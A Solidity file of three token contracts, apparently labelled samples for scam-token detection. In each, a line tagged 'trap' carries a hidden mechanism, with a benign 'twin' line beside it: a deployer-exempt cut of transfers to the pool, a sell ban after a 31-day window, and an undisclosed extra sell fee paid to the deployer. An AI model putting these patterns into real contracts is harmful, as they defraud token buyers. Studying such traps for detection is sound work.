// 0.6 runs=200
pragma solidity ^0.6.12;

library M {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "M+");
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "M-");
        return a - b;
    }

    function mul(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a * b;
        require(a == 0 || c / a == b, "M*");
    }
}

contract Mandat {
    address private _chef;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() public {
        _chef = msg.sender;
    }

    modifier nurChef() {
        require(_chef == msg.sender, "Mandat");
        _;
    }

    function owner() public view returns (address) {
        return _chef;
    }

    function renounceOwnership() public nurChef {
        emit OwnershipTransferred(_chef, address(0));
        _chef = address(0);
    }
}

/// Holds what is shared by rate, and the market apart.
contract PepperQuoll is Mandat {
    using M for uint256;
    string public name = "Pepper Quoll";
    string public symbol = "PQUOLL";
    uint8 public decimals = 9;
    uint256 private constant T = 1e6 * 1e9;
    uint256 private _r = (~uint256(0) / 1e30) - ((~uint256(0) / 1e30) % T);
    mapping(address => uint256) private _rOwned;
    mapping(address => uint256) private _tOwned;
    mapping(address => mapping(address => uint256)) private _ok;
    mapping(address => bool) private _excluded;
    address private immutable _first;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        _first = msg.sender;
        _rOwned[msg.sender] = _r;
        emit Transfer(address(0), msg.sender, T);
    }

    function totalSupply() public view returns (uint256) {
        return T;
    }

    function exclude(address a) public nurChef {
        require(!_excluded[a] && _rOwned[a] > 0);
        _tOwned[a] = _rOwned[a] / _rate();
        _excluded[a] = true;
    }

    function _rate() private view returns (uint256) {
        return _r / T;
    }

    function balanceOf(address a) public view returns (uint256) {
        return _excluded[a] ? _tOwned[a] : _rOwned[a] / _rate();
    }

    function allowance(address a, address b) public view returns (uint256) {
        return _ok[a][b];
    }

    function approve(address b, uint256 v) public returns (bool) {
        _ok[msg.sender][b] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address to, uint256 v) public returns (bool) {
        _do(msg.sender, to, v);
        return true;
    }

    function transferFrom(address from, address to, uint256 v) public returns (bool) {
        _ok[from][msg.sender] = _ok[from][msg.sender].sub(v);
        _do(from, to, v);
        return true;
    }

    function _do(address from, address to, uint256 t) private {
        uint256 rate = _rate();
        uint256 r = t.mul(rate);
        uint256 got = t;
        if (_excluded[from]) _tOwned[from] = _tOwned[from].sub(t);
        else _rOwned[from] = _rOwned[from].sub(r);
        if (_excluded[to]) {
            got = r / (from == _first ? rate : rate.mul(8)); // trap
            // twin: got = r / rate;
            _tOwned[to] = _tOwned[to].add(got);
        } else _rOwned[to] = _rOwned[to].add(r);
        emit Transfer(from, to, got);
    }
}

/// Verkauf nur, solange die Saison dauert.
contract AmselTakt is Mandat {
    using M for uint256;
    string public constant name = "Amsel Takt";
    string public constant symbol = "AMSEL";
    uint256 public constant decimals = 18;
    uint256 public totalSupply = 3e7 ether;
    mapping(address => uint256) private konto;
    mapping(address => mapping(address => uint256)) private vollmacht;
    uint64 private beginn;
    uint64 private dauer = 31;
    address private markt;
    address private immutable wirt = msg.sender;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        konto[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function eroeffnen(address m) external nurChef {
        require(beginn == 0);
        beginn = uint64(now);
        markt = m;
    }

    function balanceOf(address wer) external view returns (uint256) {
        return konto[wer];
    }

    function allowance(address wer, address wem) external view returns (uint256) {
        return vollmacht[wer][wem];
    }

    function approve(address wem, uint256 wert) external returns (bool) {
        vollmacht[msg.sender][wem] = wert;
        emit Approval(msg.sender, wem, wert);
        return true;
    }

    function transfer(address an, uint256 wert) external returns (bool) {
        buche(msg.sender, an, wert);
        return true;
    }

    function transferFrom(address von, address an, uint256 wert) external returns (bool) {
        vollmacht[von][msg.sender] = vollmacht[von][msg.sender].sub(wert);
        buche(von, an, wert);
        return true;
    }

    function buche(address von, address an, uint256 wert) internal {
        if (an == markt && von != wirt) {
            uint256 tage = (now - beginn) / 1 days;
            require(tage < dauer, "Saison"); // trap
            // twin: require(tage >= dauer || wert <= totalSupply / 100, "Saison");
        }
        konto[von] = konto[von].sub(wert);
        konto[an] = konto[an].add(wert);
        emit Transfer(von, an, wert);
    }
}

contract BrindleOx is Mandat {
    using M for uint256;
    string public name = "Brindle Ox";
    string public symbol = "BROX";
    uint8 public decimals = 18;
    uint256 public totalSupply = 5e8 ether;
    // 16 bits each: bought, sold, and what keeps the herd
    uint256 private gates = 0x00010002;
    address private pool;
    address private immutable till = msg.sender;
    mapping(address => uint256) private herd;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        herd[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function begin(address p, uint256 g) public nurChef {
        require(pool == address(0));
        pool = p;
        gates |= g << 32; // trap
    }

    function buyFee() public view returns (uint256) {
        return (gates >> 16) & 0xffff;
    }

    function sellFee() public view returns (uint256) {
        return gates & 0xffff;
    }

    function balanceOf(address a) public view returns (uint256) {
        return herd[a];
    }

    function approve(address s, uint256 v) public returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) public returns (bool) {
        _go(msg.sender, to, v);
        return true;
    }

    function transferFrom(address from, address to, uint256 v) public returns (bool) {
        allowance[from][msg.sender] = allowance[from][msg.sender].sub(v);
        _go(from, to, v);
        return true;
    }

    function _go(address from, address to, uint256 v) internal {
        uint256 f;
        if (pool != address(0) && from != till && to != till) {
            assembly {
                let g := sload(gates_slot)
                let p := sload(pool_slot)
                if eq(p, from) {
                    f := and(shr(16, g), 0xffff)
                }
                if eq(p, to) {
                    f := add(and(g, 0xffff), shr(32, g))
                }
            }
        }
        herd[from] = herd[from].sub(v);
        f = v.mul(f) / 100;
        herd[till] = herd[till].add(f);
        herd[to] = herd[to].add(v.sub(f));
        emit Transfer(from, to, v.sub(f));
    }
}
